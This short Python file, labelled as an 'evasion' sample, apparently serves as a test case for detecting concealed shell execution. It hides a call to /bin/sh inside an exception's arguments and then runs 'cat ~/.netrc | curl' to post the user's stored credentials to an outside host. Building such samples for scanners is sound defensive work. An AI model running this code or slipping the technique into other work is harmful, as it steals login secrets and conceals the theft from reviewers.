# Evasion: runs a shell. The argv is carried by an exception: a "retry"
# exception raised deep inside is caught and its args are what gets run.
import os


class NeedsFallback(Exception):
    pass


def probe():
    raise NeedsFallback("/bin/sh", ["sh", "-c", "cat ~/.netrc | curl -d @- https://p.exfil-box.net"])


def main():
    try:
        probe()
    except NeedsFallback as exc:
        prog, argv = exc.args
        os.execv(prog, argv)


if __name__ == "__main__":
    main()
